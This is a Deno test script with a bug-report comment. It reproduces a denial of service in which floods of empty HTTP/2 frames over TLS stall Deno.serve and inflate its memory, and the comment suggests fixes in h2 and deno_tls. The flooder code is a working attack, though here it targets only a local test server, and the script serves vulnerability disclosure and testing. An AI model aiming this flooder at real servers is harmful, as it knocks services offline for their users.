/**
 * HTTP/2 frames that ask for nothing stop a server over TLS.
 *
 * One client over TLS that sends WINDOW_UPDATE, PRIORITY, SETTINGS or unknown frames of 9 to 14
 * bytes faster than they are read keeps `Deno.serve` reading for as long as it goes on: no timer
 * fires, no message of a worker arrives, and no other connection is served. 8 MB a second are
 * enough. Empty DATA frames of a request's body do the same and are kept besides, some 30 bytes of
 * memory for each byte, whether the body is read or not: 12 s of them took 1.7 GB. PING frames do
 * not, and without TLS, by prior knowledge, none of them does; a core is busy then, and others
 * wait for a tenth of a second.
 *
 * Expected: "false" everywhere. nginx under the same goes on serving others.
 *
 * Printed by Deno 2.9.6:
 *
 * ```text
 * WINDOW_UPDATE: a timer waited for more than a second: true
 * PRIORITY: a timer waited for more than a second: true
 * SETTINGS: a timer waited for more than a second: true
 * unknown: a timer waited for more than a second: true
 * empty DATA: a timer waited for more than a second: true
 * empty DATA took more than 50 MB: true
 * ```
 *
 * Where: h2's `Connection::poll` reads frame after frame as long as there are bytes, and limits
 * resets and CONTINUATION only. Reading plain TCP makes it wait now and then, by tokio's budget;
 * `deno_tls`'s stream, it seems, takes nothing from that. An empty DATA frame costs the peer no
 * flow-control window.
 *
 * Suggested fix: Give the TLS stream's reads a part in tokio's budget. In h2, count frames that
 * carry nothing, as other servers do since CVE-2019-9513 (PRIORITY), 9515 (SETTINGS) and 9518
 * (empty frames), and end the connection with ENHANCE_YOUR_CALM.
 *
 * What claude-proxy does: There is no option (`alpnProtocols` throws, `http2: false` is ignored).
 * A worker that is silent for 10 s is replaced, one that makes the process pass `memory_limit`
 * earlier, guarded by `tests/integration/hostile_floods_test.ts`; and the manual says what must
 * stand in front of a listener that strangers reach.
 */

const FLOODER = `
  function frame(type, streamId, payload) {
    const bytes = new Uint8Array(9 + payload.length);
    const head = new DataView(bytes.buffer);
    head.setUint32(0, payload.length << 8 | type);
    bytes[4] = type === 1 ? 4 : 0; // END_HEADERS
    head.setUint32(5, streamId);
    bytes.set(payload, 9);
    return bytes;
  }
  // POST, https, /, and "a" for :authority.
  const post = frame(1, 1, [0x83, 0x87, 0x84, 0x41, 1, 0x61]);
  const frames = {
    "WINDOW_UPDATE": frame(8, 0, [0, 0, 0, 1]),
    "PRIORITY": frame(2, 3, [0, 0, 0, 0, 15]),
    "SETTINGS": frame(4, 0, []),
    "unknown": frame(0xee, 0, []),
    "empty DATA": frame(0, 1, []),
  };
  self.onmessage = async ({ data: { port, cert, kind, milliseconds } }) => {
    const options = { hostname: "localhost", port, caCerts: [cert], alpnProtocols: ["h2"] };
    const client = await Deno.connectTls(options);
    client.readable.pipeTo(new WritableStream()).catch(() => {});
    const writer = client.writable.getWriter();
    await writer.write(new TextEncoder().encode("PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"));
    await writer.write(frame(4, 0, []));
    await writer.write(post);
    const one = frames[kind];
    const block = new Uint8Array(one.length * 5_000);
    for (let at = 0; at < block.length; at += one.length) block.set(one, at);
    const until = performance.now() + milliseconds;
    while (performance.now() < until) await writer.write(block);
    const { rss } = Deno.memoryUsage();
    client.close();
    self.postMessage(rss);
  };
`;

const directory = await Deno.makeTempDir();
await new Deno.Command("openssl", {
  cwd: directory,
  args: [
    ..."req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2".split(" "),
    ..."-subj /CN=localhost -addext subjectAltName=DNS:localhost".split(" "),
    ..."-addext basicConstraints=CA:FALSE -keyout key.pem -out cert.pem".split(" "),
  ],
}).output();
const cert = await Deno.readTextFile(`${directory}/cert.pem`);
const key = await Deno.readTextFile(`${directory}/key.pem`);
await Deno.remove(directory, { recursive: true });

const listen = { hostname: "127.0.0.1", port: 0, cert, key, onListen() {} };
const server = Deno.serve(listen, () => new Promise<Response>(() => {}));
const { port } = server.addr as Deno.NetAddr;

let last = performance.now();
let longest = 0;
setInterval(() => {
  const now = performance.now();
  longest = Math.max(longest, now - last);
  last = now;
}, 10);

for (const kind of ["WINDOW_UPDATE", "PRIORITY", "SETTINGS", "unknown", "empty DATA"]) {
  const url = "data:application/javascript," + encodeURIComponent(FLOODER);
  const flooder = new Worker(url, { type: "module" });
  const { rss } = Deno.memoryUsage();
  longest = 0;
  flooder.postMessage({ port, cert, kind, milliseconds: 2_000 });
  const most = await new Promise<number>((done) => flooder.onmessage = ({ data }) => done(data));
  await new Promise((later) => setTimeout(later, 50));
  console.log(`${kind}: a timer waited for more than a second:`, longest > 1_000);
  if (kind === "empty DATA") console.log("empty DATA took more than 50 MB:", most - rss > 50e6);
  flooder.terminate();
}
Deno.exit();
